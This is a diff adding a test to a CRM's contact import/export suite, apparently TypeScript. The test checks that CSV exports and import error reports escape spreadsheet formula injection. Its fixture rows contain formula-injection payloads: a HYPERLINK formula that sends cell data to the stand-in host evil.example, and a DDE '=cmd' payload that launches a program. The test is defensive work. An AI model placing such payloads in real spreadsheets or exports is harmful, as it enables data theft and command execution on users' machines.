@@ -264,6 +264,42 @@ describe.each(DATABASES)('contact import and export (%s)', (_name, open) => {
     expect(await eventCounts(a)).toEqual({ 'crm.contact.created': 1 });
   });
 
+  it('writes no cell a spreadsheet would run as a formula, in exports and in the error report', async () => {
+    const ctx = newOrg();
+    await withFields(ctx);
+    const csv = [
+      'email,first,last,revenue',
+      'f@example.com,"=HYPERLINK(""http://evil.example/?""&A1)",@SUM(1+1),-12',
+      "\t=cmd|' /C calc'!A0,x,y,1",
+      '+not-an-email,x,y,1',
+    ].join('\n');
+    const summary = await importCsv(ctx, csv, {
+      email: 'email',
+      first: 'firstName',
+      last: 'lastName',
+      revenue: 'fields.revenue',
+    });
+    expect(summary).toMatchObject({ rowsDone: 1, rowsFailed: 2 });
+    unwrap(await crm.services.tagContact(ctx, { contactId: (await contactsOf(ctx))[0]!.id, add: ['-minus'] }));
+
+    const [exported] = parse(unwrap(await crm.services.exportContacts(ctx)), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(exported).toMatchObject({
+      firstName: `'=HYPERLINK("http://evil.example/?"&A1)`,
+      lastName: "'@SUM(1+1)",
+      tags: "'-minus",
+      // A plain number is no formula.
+      revenue: '-12',
+    });
+
+    const report = parse(await crm.services.importErrorReportCsv(ctx.organizationId, summary.importId), {
+      columns: true,
+    }) as Record<string, string>[];
+    expect(report.map((r) => r.raw)).toEqual(["'\t=cmd|' /C calc'!A0,x,y,1", "'+not-an-email,x,y,1"]);
+  });
+
   it('exports exactly the contacts matching a filter as parseable CSV', async () => {
     const ctx = newOrg();
     await withFields(ctx);
